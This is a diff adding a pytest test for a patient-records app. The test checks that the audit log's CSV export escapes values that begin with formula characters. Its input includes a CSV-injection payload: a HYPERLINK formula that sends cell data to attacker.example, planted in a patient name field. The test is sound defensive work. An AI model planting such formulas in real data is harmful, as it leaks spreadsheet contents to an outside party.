@@ -94,3 +94,20 @@ def test_the_chart_links_admins_to_its_access_log(personas, login):
     assert f"/audit/access-log/?patient={personas.patient.pk}" in html
     html = login(personas.front_desk).get(f"/patients/{personas.patient.pk}/").content.decode()
     assert "/audit/access-log/" not in html
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t"])
+def test_the_csv_export_never_hands_a_spreadsheet_a_formula(personas, login, start):
+    formula = f'{start}HYPERLINK("http://attacker.example/?x="&A1,"Click")'
+    patient = PatientFactory(preferred_name="", legal_first_name=formula, legal_last_name="Doe")
+    staff = personas.front_desk
+    staff.first_name, staff.last_name = "-2+3", "@SUM(A1)"
+    staff.save()
+    _read(staff, patient)
+    response = login(personas.admin).get(URL, {"patient": patient.pk, "format": "csv"})
+    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
+    cells = [cell for row in rows[1:] for cell in row]
+    assert not [cell for cell in cells if cell[:1] in {"=", "+", "-", "@", "\t", "\r"}]
+    read = next(row for row in rows[1:] if row[3] == "chart_view" and row[2] == staff.email)
+    assert read[7].startswith("'") and formula in read[7]
+    assert read[1] == "'-2+3 @SUM(A1)"
